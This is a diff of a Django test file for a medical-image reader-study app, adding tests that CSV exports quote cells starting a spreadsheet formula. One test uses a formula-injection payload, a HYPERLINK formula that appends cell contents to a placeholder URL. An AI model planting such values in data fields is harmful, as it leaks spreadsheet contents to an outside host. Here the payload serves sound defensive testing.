@@ -8,11 +8,11 @@ import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
-from readerstudy.models import Arm, AuditEntry, GroundTruth, Read, TruthValue
-from readerstudy.services.exports import read_columns
+from readerstudy.models import Arm, AuditEntry, GroundTruth, Read, StudyQuestion, TruthValue
+from readerstudy.services.exports import csv_lines, read_columns
 from tests.factories import UserFactory
 from tests.reading_setup import open_study_with_assignments
-from tests.test_reading_api import annotation, event, post, submit, url
+from tests.test_reading_api import annotation, event, full_report, post, submit, url
 
 pytestmark = pytest.mark.django_db
 
@@ -22,9 +22,10 @@ def read_study(demo_case_set, reader, client):
     study, assignments = open_study_with_assignments(demo_case_set, reader, canaries=True)
     client.force_login(reader)
     full = assignments[Arm.FULL_REASONING]
-    post(client, url("api-events", full), {"events": [event("image_rendered", 0), event("input", 500)]})
-    post(client, url("api-annotations", full), annotation(target="label", label="pneumonia"))
-    for assignment in assignments.values():
+    for assignment in assignments.values():  # in the session's order, so the last is full reasoning
+        if assignment == full:
+            post(client, url("api-events", full), {"events": [event("image_rendered", 0), event("input", 500)]})
+            post(client, url("api-annotations", full), annotation(target="label", label="pneumonia"))
         submit(client, assignment, events=[event("submit", 4_000)], findings=["pleural-effusion"])
     return study, assignments
 
@@ -105,3 +106,26 @@ def test_reads_are_scored_under_the_studys_blank_rule(demo_case_set, reader, cli
     assert (row["correct_cardiomegaly"], row["correct_pneumothorax"]) == ("1", correct_pneumothorax)
     assert row["correct_no-finding"] == "1"  # derived negative, and not ticked
     assert (row["design"], row["previous_arm"]) == ("", "")  # assigned by hand, read once
+
+
+def test_report_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(demo_case_set, reader, client,
+                                                                              coordinator):
+    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED])
+    # A confidence scale from -2 to +2, so that a negative number reaches the export.
+    StudyQuestion.objects.filter(study=study, key="confidence").update(scale_min=-2, scale_max=2)
+    formula = '=HYPERLINK("http://x"&C2&D2)'
+    client.force_login(reader)
+    assignment = assignments[Arm.UNAIDED]
+    submit(client, assignment, report_findings=formula, ratings={**full_report(assignment)["ratings"],
+                                                                 "confidence": -2})
+    client.force_login(coordinator)
+    [row] = rows_of(download(client, study, "reads", "csv"))
+    assert (row["report_findings"], row["rating_confidence"]) == ("'" + formula, "-2")
+    [raw] = json.loads(download(client, study, "reads", "json"))
+    assert (raw["report_findings"], raw["rating_confidence"]) == (formula, -2)  # JSON is data, never opened as a sheet
+
+
+def test_csv_cells_starting_a_formula_get_a_quote_and_numbers_stay_numbers():
+    row = ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -3, -2.5, 0]
+    [_, written] = csv.reader(io.StringIO("".join(csv_lines([f"c{i}" for i in range(len(row))], [row]))))
+    assert written == ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "", "-3", "-2.5", "0"]
